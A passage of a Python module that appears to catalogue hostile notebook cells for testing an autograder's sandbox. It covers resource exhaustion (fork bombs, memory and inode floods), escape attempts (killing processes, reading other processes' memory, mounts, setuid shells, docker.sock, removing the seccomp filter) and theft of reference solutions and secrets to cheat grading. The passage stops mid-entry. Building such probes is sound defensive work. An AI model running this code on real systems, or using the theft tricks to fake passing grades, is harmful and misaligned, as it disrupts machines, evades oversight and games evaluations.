"""Attacks on the machine, by family: resources, escape, theft, persistence. See hostile_notebooks.

Before each stand the names KNOWN: what an attacker could have found out about this machine.
"""

from hostile_notebooks import Table

RESOURCES: Table = {
    "loop_in_c": (
        "a loop that Python cannot interrupt",
        "def bias_gradient(delta): return sum(range(10**12))",
    ),
    "loop_in_a_pattern": (
        "a regular expression that takes longer than the universe has",
        "import re\ndef bias_gradient(delta): return re.match(r'(a+)+$', 'a' * 60 + 'b')",
    ),
    "loop_in_arithmetic": (
        "an integer with a billion digits",
        "def bias_gradient(delta): return 3 ** (3 ** 25)",
    ),
    "loop_in_a_destructor": (
        "the loop begins when the cell is over and its names are replaced",
        """
class Last:
    def __del__(self):
        while True: pass
last = Last(); del last
""",
    ),
    "loops_in_many_cells": ("a cell that never ends", "while True: pass"),
    "sleeps": ("a cell that sleeps for a month", "import time\ntime.sleep(2_600_000)"),
    "waits_for_input": ("questions that nobody answers", "import sys\nname = sys.stdin.read()"),
    "recursion_in_c": (
        "a structure so deep that printing it overflows the stack",
        """
import sys
sys.setrecursionlimit(10**9)
deep = []
for _ in range(200_000): deep = [deep]
def bias_gradient(delta): return repr(deep)
""",
    ),
    "memory_in_pieces": (
        "lists that grow without end",
        """
def bias_gradient(delta):
    held = []
    while True: held.append([0.0] * 10_000)
""",
    ),
    "memory_shared": (
        "shared memory that belongs to many processes at once",
        """
import mmap, os, time
held = []
for number in range(3):
    file = open(f"/dev/shm/{number}", "w+b")
    try: os.truncate(file.fileno(), 15 << 20); held.append(mmap.mmap(file.fileno(), 15 << 20))
    except OSError: pass
for _ in range(10):
    if os.fork() == 0:
        for part in held:
            for place in range(0, len(part), 4096): part[place] = 1
        time.sleep(60)
""",
    ),
    "memory_let_go": (
        "shared memory without a file, which stays when no process counts it any more",
        """
import mmap, os
bad = []
try: mmap.mmap(-1, 4096, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS); bad.append("anonymous")
except OSError: pass
try: mmap.mmap(-1, 4096, flags=3 | mmap.MAP_ANONYMOUS); bad.append("validated")
except OSError: pass
for how in (os.O_RDWR, os.O_RDONLY):
    try:
        mmap.mmap(os.open("/dev/zero", how), 4096, prot=1 + (how == os.O_RDWR) * 2)
        bad.append("device")
    except OSError: pass
print("LOOT" if bad else "held")
""",
    ),
    "files_moved_about": (
        "folders are renamed all the time, so that nobody can look into them",
        """
import os, tempfile, time
os.chdir(tempfile.gettempdir())
inside = [os.open(".", os.O_RDONLY)]
for level in range(6):
    os.mkdir(f"{level}_0", dir_fd=inside[-1])
    inside.append(os.open(f"{level}_0", os.O_RDONLY, dir_fd=inside[-1]))
for level in range(6):
    if os.fork() == 0:
        number, here = 0, inside[level]
        while True:
            old, new = f"{level}_{number}", f"{level}_{number + 1}"
            os.rename(old, new, src_dir_fd=here, dst_dir_fd=here); number += 1
try:
    for number in range(45):
        part = os.open(f"part{number}", os.O_CREAT | os.O_WRONLY, dir_fd=inside[-1])
        os.write(part, bytes(8 << 20)); os.close(part)
    time.sleep(2)
    print("LOOT")
except OSError:
    print("held")
""",
    ),
    "memory_of_children": (
        "twenty children each take what one may have",
        """
import os, time
for _ in range(20):
    if os.fork() == 0:
        held = b"x" * (200 << 20)
        time.sleep(60)
time.sleep(5)
""",
    ),
    "memory_in_pipes": (
        "the kernel's memory, in pipes and sockets that are full",
        """
import fcntl, os, socket
held = []
try:
    while True:
        reading, writing = os.pipe()
        held += [reading, writing]
        try: fcntl.fcntl(writing, 1031, 1 << 20)
        except OSError: pass
        os.set_blocking(writing, False)
        try:
            while True: os.write(writing, bytes(1 << 16))
        except BlockingIOError:
            pass
except OSError:
    pass
""",
    ),
    "fork_bomb": (
        "every process starts another, without end",
        """
import os
def bias_gradient(delta):
    while True:
        try: os.fork()
        except OSError: pass
""",
    ),
    "process_bomb": (
        "the same with programs, and with sessions of their own where they can be had",
        """
import subprocess
for number in range(60):
    try:
        line = ["/bin/sh", "-c", "while :; do :; done"]
        subprocess.Popen(line, start_new_session=number % 2 == 1)
    except PermissionError:
        continue
    except OSError:
        break
""",
    ),
    "processors": (
        "twelve processes that compute, each in a session of its own",
        """
import os, time
for _ in range(12):
    if os.fork() == 0:
        for alone in (os.setsid, lambda: os.setpgid(0, 0)):
            try: alone(); os._exit(1)
            except OSError: pass
        while True: pass
time.sleep(1)
print("LOOT" if os.waitpid(-1, os.WNOHANG)[0] else "held")
""",
    ),
    "processors_by_turns": (
        "processes that compute for a moment and leave it to their children, waited for by nobody",
        """
import os, signal, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
for _ in range(18):
    if os.fork() == 0:
        while True:
            start = time.monotonic()
            while time.monotonic() - start < 0.05: pass
            try:
                if os.fork(): os._exit(0)
            except OSError: pass
time.sleep(2)
""",
    ),
    "processors_in_threads": (
        "threads that compute without the lock of Python",
        """
import hashlib, threading, time
block = bytes(64 << 20)
def work():
    while True: hashlib.sha256(block)
for _ in range(20): threading.Thread(target=work, daemon=True).start()
time.sleep(2)
""",
    ),
    "descriptors_on_their_way": (
        "descriptors are sent in pairs of sockets, of which the kernel counts each user's",
        """
import array, ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
one, other = socket.socketpair()
rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 253))]
sent = 0
try:
    while sent < 100: one.sendmsg([b"x"], rights); sent += 1
except OSError: pass
ctypes.set_errno(0)
several = libc.sendmmsg(one.fileno(), ctypes.create_string_buffer(64), 1, 0)
print("LOOT" if sent or several != -1 or ctypes.get_errno() != 1 else "held")
""",
    ),
    "counts_of_the_user": (
        "what the kernel gives each user, or the machine, so much of, also with bits above",
        """
import ctypes, mmap, os, platform, resource, select, tempfile
libc = ctypes.CDLL(None, use_errno=True)
column = ("x86_64", "aarch64").index(platform.machine())
file = os.open(tempfile.gettempdir() + "/leased", os.O_RDWR | os.O_CREAT)
FCNTL, PRCTL, PRLIMIT = (72, 25), (157, 167), (302, 261)
context = ctypes.c_long()
tried = {
    "lease": (FCNTL, file, 1024, 1), "notices": (FCNTL, os.open(tempfile.gettempdir(), 0), 1026, 1),
    "core": (PRCTL, 62, 1, 0, 0, 0), "dumps": (PRLIMIT, 0, 4, ctypes.byref(ctypes.c_long()), 0),
    "requests": ((206, 0), 60_000, ctypes.byref(context)), "sync": ((162, 81),),
    "out of memory": ((221, 223), file, 0, 0, 4), "options": ((54, 208), 0, 1, 7, 0, 0),
}
bad = []
for name, (numbers, *values) in tried.items():
    for above in (0, 1 << 32):
        given = [ctypes.c_long(v + above * (v > 3)) if isinstance(v, int) else v for v in values]
        ctypes.set_errno(0)
        if libc.syscall(numbers[column], *given) != -1 or ctypes.get_errno() != 1: bad.append(name)
try: select.epoll(); bad.append("watches")
except OSError: pass
try: mmap.mmap(-1, 2 << 20, flags=0x40022); bad.append("large pages")
except OSError as error: bad += ["large pages"] * (error.errno != 1)
locked = ctypes.create_string_buffer(1 << 16)
if libc.mlock(locked, len(locked)) == 0: bad.append("locked memory")
timers, identity = 0, ctypes.c_void_p()
while timers < 5000 and libc.timer_create(1, None, ctypes.byref(identity)) == 0: timers += 1
if timers > 300: bad.append("timers")
print("LOOT" if bad else "held", bad)
""",
    ),
    "memory_given_to_pipes": (
        "large pages are given to pipes and forgotten: each stays whole for one byte",
        """
import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
class Vector(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
given, pipes = 0, []
for _ in range(40):
    reading, writing = os.pipe(); pipes += [reading, writing]
    for _ in range(16):
        page = mmap.mmap(-1, 4 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        page.madvise(mmap.MADV_HUGEPAGE)
        page[0] = page[2 << 20] = 1
        part = (ctypes.c_char * 8).from_buffer(page)
        vector = Vector(ctypes.addressof(part), 1)
        given += libc.vmsplice(writing, ctypes.byref(vector), 1, 0) == 1
        del part; page.close()
    if not given: break
print("LOOT" if given else "held")
""",
    ),
    "buffers_of_sockets": (
        "the kernel's memory, in pairs of sockets of many processes",
        """
import os, socket, time
for _ in range(20):
    if os.fork() == 0:
        pairs = []
        try:
            while True:
                pairs.append(socket.socketpair())
                for end in pairs[-1]:
                    end.setblocking(False)
                    try:
                        while True: end.send(bytes(1 << 16))
                    except BlockingIOError: pass
        except OSError: pass
        time.sleep(60)
time.sleep(5)
""",
    ),
    "terminals": (
        "as many terminals as there are",
        """
import os
made = []
try:
    while len(made) < 100: made += os.openpty()
except OSError: pass
print("LOOT" if made else "held")
""",
    ),
    "sparse_file": (
        "a file of a terabyte without contents",
        """
import os, signal, tempfile
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
try:
    os.truncate(os.open(tempfile.gettempdir() + "/sparse", os.O_CREAT | os.O_RDWR), 1 << 40)
    print("LOOT")
except OSError:
    print("held")
""",
    ),
    "inodes": (
        "more empty files than a disk has room for names",
        """
import os, tempfile
made = 0
for folder in (tempfile.gettempdir(), "/dev/shm", os.path.expanduser("~")):
    try:
        for number in range(100_000):
            os.symlink("x" * 200, f"{folder}/{number}"); made += 1
    except OSError:
        pass
print("LOOT" if made > 20_000 else "held")
""",
    ),
    "deep_folders": (
        "folders in folders, deeper than a path is long",
        """
import os
try:
    for _ in range(3000):
        os.mkdir("d" * 200); os.chdir("d" * 200)
except OSError:
    pass
""",
    ),
    "output_below_python": (
        "a hundred megabytes written to the descriptors of output",
        """
import os
for _ in range(100):
    for number in (1, 2): os.write(number, b"y" * 1_000_000)
""",
    ),
    "output_of_an_error": (
        "an exception whose name, text and traceback are megabytes",
        """
def deeper(n):
    if n: return deeper(n - 1)
    raise type("E" * 1_000_000, (Exception,), {})("x" * 10_000_000)
deeper(900)
""",
    ),
    "output_of_each_call": (
        "ten megabytes printed at each call",
        "def bias_gradient(delta): print('z' * 10_000_000); return 1 - delta",
    ),
    "giant_figure": (
        "a figure as large as a house",
        """
import matplotlib.pyplot as plt
for size in (2000, 20_000):
    try: plt.figure(figsize=(size, size), dpi=300).canvas.draw()
    except (MemoryError, ValueError): plt.close("all")
""",
    ),
    "timers_and_watches": (
        "timers, events and watches until the kernel has no more",
        """
import ctypes, select
libc = ctypes.CDLL(None)
held = []
for make in (lambda: select.epoll(), lambda: libc.eventfd(0, 0), lambda: libc.inotify_init()):
    try:
        for _ in range(300): held.append(make())
    except OSError:
        pass
identity = ctypes.c_void_p()
for _ in range(100_000):
    if libc.timer_create(1, None, ctypes.byref(identity)): break
""",
    ),
    "semaphores": (
        "semaphores and queues of the system",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for _ in range(40_000):
    if libc.semget(0, 100, 0o666) == -1: break
""",
    ),
    "mappings": (
        "a hundred thousand mappings of a page each",
        """
import mmap
held = []
try:
    while len(held) < 100_000: held.append(mmap.mmap(-1, 4096, 0x22, 1 + len(held) % 2))
except (OSError, MemoryError):
    pass
""",
    ),
    "threads_below_python": (
        "threads until no more can be made",
        """
import threading, time
started = 0
try:
    while started < 5000:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start(); started += 1
except RuntimeError:
    pass
print("LOOT" if started > 100 else "held")
""",
    ),
    "dies_in_every_call": (
        "each call ends the process, and each start is slow",
        """
import os, time
time.sleep(0.5)
def bias_gradient(delta): os._exit(0)
""",
    ),
}

ESCAPE: Table = {
    "signals_to_all": (
        "every signal to every process",
        """
import os, signal
for number in (signal.SIGTERM, signal.SIGKILL):
    for target in (-1, 0, 2, 3, 100):
        try:
            if target: os.kill(target, number)
        except OSError: pass
print("held")
""",
    ),
    "signals_by_handle": (
        "processes are taken by a handle instead of a number",
        """
import os, signal
found = []
for number in {*range(2, 5000)} - {os.getpid()}:
    try:
        signal.pidfd_send_signal(os.pidfd_open(number), signal.SIGKILL); found.append(number)
    except OSError: pass
print("LOOT" if found else "held")
""",
    ),
    "traces_a_child": (
        "ptrace, of a child and of the parent",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
results = [libc.ptrace(0, 0, 0, 0), libc.ptrace(16, os.getppid(), 0, 0), libc.ptrace(16, 1, 0, 0)]
libc.prctl(0x59616D61, -1, 0, 0, 0)
print("held" if set(results) == {-1} else "LOOT")
""",
    ),
    "memory_of_others": (
        "reads and writes the memory of other processes",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
place = ctypes.create_string_buffer(64)
class Vector(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
own = Vector(ctypes.addressof(place), 64)
bad = [n for n in (1, 2, os.getppid()) if n and 0 <= libc.process_vm_readv(
    n, ctypes.byref(own), 1, ctypes.byref(own), 1, 0)]
for path in ("/proc/1/mem", "/proc/self/mem", "/dev/mem", "/dev/kmem", "/proc/kcore"):
    try: open(path, "r+b"); bad.append(path)
    except OSError: pass
print("LOOT" if bad else "held")
""",
    ),
    "namespaces_one_by_one": (
        "a namespace of each kind, by unshare, clone and setns",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
bad = []
for flag in (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000, 0x80):
    if libc.unshare(flag) == 0: bad.append(("unshare", flag))
    if flag > 0x80 and (child := libc.syscall(CLONE, flag | 17, 0, 0, 0, 0)) >= 0:
        if child == 0: os._exit(0)
        bad.append(("clone", flag))
    if libc.setns(3, flag) == 0: bad.append(("setns", flag))
print("LOOT" if bad else "held")
""",
    ),
    "calls_of_another_age": (
        "system calls in the way of 32-bit programs, which a filter may not know",
        """
import ctypes, mmap, os, platform
code = bytes.fromhex("b814000000cd80c3") if platform.machine() == "x86_64" else None
if code:
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    page.write(code)
    if os.fork() == 0:
        ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
        os._exit(77)
    print("LOOT" if os.waitstatus_to_exitcode(os.wait()[1]) == 77 else "held")
else:
    print("held")
""",
    ),
    "calls_with_a_bit_more": (
        "the same calls with the bit of the x32 interface",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
bad = [n for n in (101, 165, 272, 321, 310, 41)
       if libc.syscall(ctypes.c_long(n | 0x40000000), 0, 0, 0, 0, 0) != -1]
print("LOOT" if bad else "held")
""",
    ),
    "newest_calls": (
        "rings, keys, programs in the kernel, secret memory, file handles",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
bad = []
for name, number in DENIED.items():
    for argument in (0, 1, -1, 1 << 12):
        ctypes.set_errno(0)
        if libc.syscall(number, argument, 0, argument, 0, 0, 0) != -1: bad.append(name)
print("LOOT" if bad else "held")
""",
    ),
    "mounts": (
        "mounts, binds, moves and other roots",
        """
import ctypes, os, subprocess, tempfile
libc = ctypes.CDLL(None, use_errno=True)
old = tempfile.gettempdir().encode()
new = old + b"/m"
os.makedirs(new, exist_ok=True)
bad = [libc.mount(b"proc", new, b"proc", 0, None),
       libc.mount(b"/", new, None, 4096, None),
       libc.mount(b"none", b"/", None, 32 | 4096, None), libc.umount2(b"/proc", 2),
       libc.umount2(old, 2), libc.chroot(old), libc.pivot_root(old, new) if
       hasattr(libc, "pivot_root") else -1]
seen = subprocess.run(["mount", "-t", "proc", "proc", new], capture_output=True)
print("held" if set(bad) == {-1} and seen.returncode else "LOOT")
""",
    ),
    "mounts_listed": (
        "the newest calls that describe mounts, for places outside",
        """
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
found = ctypes.create_string_buffer(8 * 512)
request = struct.pack("IIQQQ", 32, 0, 0xFFFFFFFFFFFFFFFF, 0, 0)
count = libc.syscall(458, request, found, 512, 0)
text = b""
for mount in struct.unpack(f"{max(count, 0)}Q", found.raw[: 8 * max(count, 0)]):
    about = ctypes.create_string_buffer(1 << 14)
    query = struct.pack("IIQQQ", 32, 0, mount, 0x1F | 0x8 | 0x10, 0)
    if libc.syscall(457, query, about, len(about), 0) == 0: text += about.raw
print("LOOT" if COURSE.encode() in text or CHECKOUT.encode() in text else "held")
""",
    ),
    "raises_itself": (
        "root by every door there is",
        """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
bad = [name for name in ("setuid", "setgid", "setresuid", "setfsuid")
       if getattr(libc, name)(0, 0, 0) == 0 and name != "setfsuid"]
bad += [1] if os.geteuid() == 0 or os.getegid() == 0 else []
for command in (["sudo", "-n", "true"], ["su", "-c", "true"], ["newgrp"], ["pkexec", "true"]):
    try:
        if subprocess.run(command, capture_output=True, timeout=1, input=b"").returncode == 0:
            bad.append(command[0] if command[0] != "newgrp" else "")
    except (OSError, subprocess.TimeoutExpired): pass
print("LOOT" if any(bad) else "held")
""",
    ),
    "program_of_root": (
        "a program is marked to run as its owner, or given capabilities",
        """
import ctypes, os, shutil, tempfile
own = shutil.copy("/bin/sh", tempfile.gettempdir() + "/sh")
bad = []
try: os.chown(own, 0, 0); bad.append("chown")
except OSError: pass
try: os.setxattr(own, "security.capability", bytes(20)); bad.append("capability")
except OSError: pass
os.chmod(own, 0o6755)
if os.popen(own + " -p -c 'id -u'").read().strip() == "0": bad.append("setuid")
print("LOOT" if bad else "held")
""",
    ),
    "links_out": (
        "symbolic and hard links to what lies outside",
        """
import os, sys, tempfile
bad, ours = [], {"student", *sys.base_prefix.split("/")}
own = tempfile.gettempdir()
for target in (COURSE, CHECKOUT, "/root", "/home", "/proc/1/root", "/proc/self/cwd/../.."):
    link = f"{own}/link{len(bad)}{abs(hash(target))}"
    os.symlink(target, link)
    try:
        inside = os.listdir(link)
        if set(inside) - ours: bad.append((target, inside[:3]))
    except OSError: pass
for name in ("/grader/wire.py", "/etc/passwd", "/student/bin/python"):
    try: os.link(name, own + "/hard"); open(own + "/hard", "ab"); bad.append(name)
    except OSError: pass
print("LOOT" if bad else "held")
""",
    ),
    "out_of_its_root": (
        "an open folder and many steps upwards",
        """
import os
top, seen = set(), set()
try: root = os.open("/", os.O_RDONLY); top = set(os.listdir("/"))
except OSError: root = os.open(os.path.expanduser("~"), os.O_RDONLY); top = {"home", "tmp"}
for step in range(1, 40):
    try: seen |= set(os.listdir(os.open("../" * step, os.O_RDONLY, dir_fd=root)))
    except OSError: break
print("LOOT" if seen - top else "held")
""",
    ),
    "devices": (
        "devices are made and opened, terminals are typed into",
        """
import fcntl, os, stat, tempfile
bad, node = [], tempfile.gettempdir() + "/node"
for kind, number in ((stat.S_IFBLK, (8, 0)), (stat.S_IFCHR, (1, 1)), (stat.S_IFCHR, (10, 229))):
    try: os.mknod(node, 0o666 | kind, os.makedev(*number)); bad.append(number)
    except OSError: pass
for path in ("/dev/fuse", "/dev/kvm", "/dev/net/tun", "/dev/sda", "/dev/vda", "/dev/loop-control",
             "/dev/userfaultfd", "/dev/kmsg"):
    try: os.open(path, os.O_RDWR); bad.append(path)
    except OSError: pass
for number in (0, 1, 2):
    try: fcntl.ioctl(number, 0x5412, b"x"); bad.append("typed")
    except OSError: pass
print("LOOT" if bad else "held")
""",
    ),
    "sockets_of_every_family": (
        "a socket and a pair of each of the kernel's families",
        """
import socket
bad = []
for family in range(1, 46):
    for kind in (1, 2, 3, 5):
        try: socket.socket(family, kind); bad.append(family)
        except OSError: pass
        try:
            if family != 1: socket.socketpair(family, kind); bad.append(-family)
        except OSError: pass
print("LOOT" if bad else "held")
""",
    ),
    "objects_of_the_system": (
        "shared memory, semaphores and queues of others, by their numbers",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
room, bad = ctypes.create_string_buffer(512), []
calls = [(libc.shmat, 0, None, 0), (libc.shmctl, 0, 14, room), (libc.semctl, 0, 0, 16, 7),
         (libc.semctl, 0, 0, 19, room), (libc.semop, 0, room, 1), (libc.msgctl, 0, 12, room),
         (libc.msgsnd, 0, bytes([1] + [0] * 15), 4, 0), (libc.msgrcv, 0, room, 4, 0, 0o4000)]
for function, *arguments in calls:
    ctypes.set_errno(0)
    if function(*arguments) != -1 or ctypes.get_errno() != 1: bad.append(function.__name__)
print("LOOT" if bad else "held")
""",
    ),
    "sockets_by_their_name": (
        "a pair's end is connected to, and bound for, somebody else",
        """
import socket
bad = []
try:
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    bad.append("datagrams, which can be sent to whoever listens")
except OSError:
    one, other = socket.socketpair()
try: other.bind("\\0" + "f" * 32); bad.append("a name for others")
except OSError: pass
for place in (ABSTRACT, "/run/docker.sock", "/var/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    try: one.connect(place); bad.append(place)
    except OSError: pass
    try: one.sendto(b"x", place); bad.append(place)
    except OSError: pass
print("LOOT" if bad else "held")
""",
    ),
    "datagrams_by_another_name": (
        "pairs of sockets of every kind and family, some of which can send to whoever listens",
        """
import ctypes, platform, socket
libc = ctypes.CDLL(None, use_errno=True)
number = (53, 199)[("x86_64", "aarch64").index(platform.machine())]
bad = []
for family in (1, 16, 30, 38, (1 << 32) + 1):
    for kind in (2, 3, 4, 2 | 0o4000, (1 << 32) + 3, 1):
        pair = (ctypes.c_int * 2)()
        if (family & 15, kind) == (1, 1): continue
        if libc.syscall(number, ctypes.c_long(family), ctypes.c_long(kind), 0, pair) == 0:
            bad.append((family, kind))
            try: socket.socket(fileno=pair[0]).sendto(b"<13>here", "/run/systemd/journal/socket")
            except OSError: pass
print("LOOT" if bad else "held")
""",
    ),
    "pipe_is_no_way_out": (
        "the pipe to the grader is reconnected, listened on, and asked who is there",
        """
import os, socket, struct
pipe = socket.socket(fileno=os.dup(3))
bad = []
for place in (ABSTRACT, "/run/docker.sock"):
    try: pipe.connect(place); bad.append(place)
    except OSError: pass
try: pipe.listen(1); bad.append("listen")
except OSError: pass
try:
    process, user, group = struct.unpack("3i", pipe.getsockopt(socket.SOL_SOCKET, 17, 12))
    if process > 0: os.kill(process, 9); bad.append("peer")
except OSError: pass
print("LOOT" if bad else "held")
""",
    ),
    "limits_raised": (
        "its own limits and those of others are raised",
        """
import resource
bad = []
for number in range(16):
    try:
        soft, hard = resource.getrlimit(number)
        if hard != resource.RLIM_INFINITY:
            for limit in (hard + 1, 1 << 40, resource.RLIM_INFINITY):
                try: resource.setrlimit(number, (limit, limit)); bad.append(number)
                except (OSError, ValueError): pass
        resource.prlimit(1, number); resource.prlimit(2, number); bad.append(-number)
    except (OSError, ValueError): pass
print("LOOT" if any(n > 0 for n in bad) else "held")
""",
    ),
    "kernel_settings": (
        "the machine's name, clock, power and modules",
        """
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
bad = [libc.sethostname(b"x", 1), libc.reboot(0), libc.swapoff(b"/x"), libc.acct(None),
       libc.init_module(b"", 0, b""), libc.delete_module(b"x", 0),
       libc.quotactl(0, None, 0, None), libc.klogctl(3, ctypes.create_string_buffer(99), 99)]
try: time.clock_settime(time.CLOCK_REALTIME, time.time()); bad.append(0)
except OSError: pass
print("held" if all(result == -1 for result in bad) else "LOOT")
""",
    ),
    "more_important_than_others": (
        "a higher priority, other processors, real time",
        """
import os
bad = []
for change in (lambda: os.nice(-5), lambda: os.setpriority(os.PRIO_USER, 0, -20),
               lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10)),
               lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))):
    try: change(); bad.append(change)
    except OSError: pass
print("LOOT" if bad else "held")
""",
    ),
    "filter_replaced": (
        "another filter, and the marks that keep this one, are tried to be taken off",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(38, 0, 0, 0, 0); libc.prctl(22, 0, 0, 0, 0); libc.syscall(317, 0, 0, 0)
print("held" if libc.prctl(39, 0, 0, 0, 0) == 1 and libc.prctl(21, 0, 0, 0, 0) != 0 else "LOOT")
""",
    ),
    "folders_of_the_system": (
        "/proc, /sys and the control groups",
        """
import glob, os
bad = [p for p in ("/sys/fs/cgroup", "/sys/kernel", "/proc/1", "/proc/sys", "/proc/self/exe",
                   "/proc/net/unix", "/proc/self/mountinfo", "/run/user", "/var/run") if
       os.path.exists(p)]
print("LOOT" if bad or os.listdir("/proc") else "held")
""",
    ),
}

THEFT: Table = {
    "stack": (
        "a function that walks up the stack and returns the first array that looks right",
        """
import sys
def bias_gradient(delta):
    frame, shape = sys._getframe(), (len(delta), 1)
    while frame := frame.f_back:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if isinstance(value, np.ndarray) and value is not delta and value.shape == shape:
                return value
    return 1 - delta
""",
    ),
    "objects": (
        "a function that returns any array of the right shape in memory",
        """
import gc
def bias_gradient(delta):
    shape = (len(delta), 1)
    for thing in gc.get_objects():
        for value in gc.get_referents(thing):
            if isinstance(value, np.ndarray) and value is not delta and value.shape == shape:
                return value
    return 1 - delta
""",
    ),
    "code_of_the_library": (
        "any function of the same name, or with the solution in its source, anywhere",
        """
import importlib, inspect, os, pkgutil, sys
found = []
import coursekit
for module in pkgutil.walk_packages(coursekit.__path__, "coursekit."):
    try: importlib.import_module(module.name)
    except BaseException: pass
for name, module in list(sys.modules.items()):
    if name.startswith("coursekit"):
        for key in ("bias_gradient", "output_error"):
            thing = getattr(module, key, None)
            try:
                if thing is not None: thing(np.ones((2, 2))); found.append(name)
            except BaseException: pass
print("LOOT" if found else "held")
""",
    ),
    "code_by_its_path": (
        "the withheld modules are loaded by their files, sources and bytecode",
        """
import glob, importlib.util, os, pkgutil
found = []
for root, folders, files in os.walk("/student"):
    for name in files:
        if name.split(".")[0] in ("backprop", "gradcheck") and "coursekit" in root:
            path = os.path.join(root, name)
            data = open(path, "rb").read()
            if b"keepdims" in data or b"delta" in data: found.append(path)
            if name.endswith((".pyc", ".pyo")): found.append(path)
for name in ("backprop.py", "__pycache__/backprop.cpython-311.pyc"):
    try:
        data = pkgutil.get_data("coursekit", name)
        if b"keepdims" in (data or b""): found.append(name)
    except OSError: pass
print("LOOT" if found else "held")
""",
    ),
    "packages_elsewhere": (
        "another copy of the library: archives, other environments, the base installation",
        """
import os
found = []
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(root, f) not in ("/proc", "/sys", "/dev")]
    inside = root.startswith("/student/lib")
    if "coursekit" in os.path.basename(root) and not inside: found.append(root)
    found += [f for f in files if f.startswith("coursekit") and f.endswith((".whl", ".zip", ".gz"))]
    found += [f for f in files if f in ("judge.py", "ps5_backprop.py", "gradebook.db")]
print("LOOT" if found else "held")
""",
    ),
    "other_libraries": (
        "libraries that know gradients",
        """
found = []
for name in ("torch", "tensorflow", "jax", "autograd", "sklearn", "scipy", "sympy", "theano",
             "nbgrader", "autograder", "nbformat", "hypothesis", "pytest"):
    try: __import__(name); found.append(name)
    except ImportError: pass
print("LOOT" if found else "held")
""",
    ),
    "places_of_the_system": (
        "what somebody has installed beside the system, nbgrader's exchange and documents",
        """
import os, sys
found = []
for place in ("/usr/local/share/nbgrader/exchange", "/usr/local/share", "/usr/local/etc", "/opt",
              "/usr/src", "/usr/include", "/usr/share/doc", "/usr/share/man", "/srv/nbgrader"):
    try: found += [place] if os.listdir(place) and not sys.base_prefix.startswith(place) else []
    except OSError: pass
print("LOOT" if found else "held")
""",
    ),
    "files_of_the_course": (
        "the course, by the paths that it has outside",
        """
import os, sys
found, ours = [], {"student", *sys.base_prefix.split("/")}
for place in (COURSE, CHECKOUT, SEED_FILE, COURSE + "/gradebook.db", COURSE + "/source",
              COURSE + "/submitted", CHECKOUT + "/autograder/checks", "../../../source",
              "../submitted", "/work", "/srv", "/mnt", "/opt/course", "/home/jovyan", "/root"):
    try: found += os.listdir(place) if os.path.isdir(place) else [open(place).name]
    except OSError: pass
print("LOOT" if set(found) - ours else "held")
""",
    ),
    "environment": (
        "variables, arguments and what the C library keeps of them",
        """
import ctypes, os, sys
libc = ctypes.CDLL(None)
held = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
raw, n = b"", 0
while held[n]: raw += held[n]; n += 1
raw += repr([sys.argv, sys.orig_argv, dict(os.environ), os.getcwd(), os.uname()]).encode()
loot = (*(part.encode() for part in SECRET), MARK, b"SEED_FILE", CHECKOUT.encode(), COURSE.encode())
print("LOOT" if any(part in raw for part in loot) else "held")
""",
    ),
    "memory": (
        "the whole heap of its own process, a copy of the fork server's",
        """
import ctypes, os
libc = ctypes.CDLL(None)
libc.sbrk.restype = ctypes.c_void_p
end, reading, writing = libc.sbrk(0), *os.pipe()
found, seen, place = False, 0, end - 8192
libc.write.argtypes = ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t
while place > 0 and libc.write(writing, place, 8192) == 8192:
    page = os.read(reading, 8192); seen += 1
    for part in page.split(SECRET[0].encode())[1:]: found |= part.startswith(SECRET[1].encode())
    place -= 4096
print("LOOT" if found else "held" if seen > 100 else "nothing was seen")
""",
    ),
    "earlier_cells": (
        "what somebody else has typed: histories, caches of lines, names",
        """
import gc, linecache, sys
shell = get_ipython()
texts = [*map(str, shell.user_ns.get("In", [])), *map(str, linecache.cache.values())]
texts += [str(v) for k, v in shell.user_ns.items() if k.startswith("_i")]
texts += [t for t in gc.get_objects() if isinstance(t, str)]
print("LOOT" if any("honest_" + "neighbour" in text for text in texts) else "held")
""",
    ),
    "history": (
        "the shell's own database of what was typed",
        """
import os
found = [os.path.join(r, f) for r, _, files in os.walk(os.path.expanduser("~")) for f in files
         if f.endswith((".sqlite", ".sqlite-journal", "_history"))]
lines = [str(line) for *_, line in get_ipython().history_manager.get_range()]
print("LOOT" if found or any("honest_" + "neighbour" in line for line in lines) else "held")
""",
    ),
    "questions_kept": (
        "every question is kept and the next answered by an old one's average",
        """
seen = []
def bias_gradient(delta):
    seen.append(delta.copy())
    return seen[0][:, :1] * 0 + 1
""",
